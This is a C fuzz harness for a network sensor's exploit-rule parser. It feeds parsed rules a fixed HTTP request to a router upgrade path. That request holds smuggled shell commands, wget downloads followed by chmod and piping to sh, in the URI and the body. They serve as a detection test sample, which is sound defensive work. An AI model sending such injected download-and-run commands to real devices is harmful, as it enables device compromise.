/* SPDX-License-Identifier: MIT */
/* Exploit rules (docs/formats/exploit-rules.md): parse, then match the parsed rules against a
 * fixed request so that every parsed pattern goes through mamori_rules_match(). */
#include <stdint.h>
#include <string.h>

#include "../lib/sensor/sensor_priv.h"

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size);

int
LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
	static const char uri[] = "/ctrlt/deviceupgrade_1?a=$(wget http://x/b;chmod 777 b)";
	static const char head[] = "post /ctrlt/deviceupgrade_1 http/1.1\r\nhost: 10.0.0.1\r\n"
	                           "cookie: uid=1\r\ncontent-length: 40\r\n\r\n";
	static const char body[] = "<newstatusurl>$(/bin/busybox wget -g x -r y)|sh curl";
	struct rules rs;
	struct mamori_diag d;
	const struct rule *r;

	if (mamori_rules_parse(&rs, data, size, &d) != MAMORI_OK)
		return 0;
	r = mamori_rules_match(&rs, uri, strlen(uri), head, strlen(head), body, strlen(body));
	if (r != NULL && (r->sid == 0 || r->severity < 1 || r->severity > 3))
		__builtin_trap();
	(void)mamori_rules_match(&rs, NULL, 0, NULL, 0, NULL, 0);
	(void)mamori_rules_match(&rs, "", 0, "", 0, "", 0);
	mamori_rules_free(&rs);
	return 0;
}
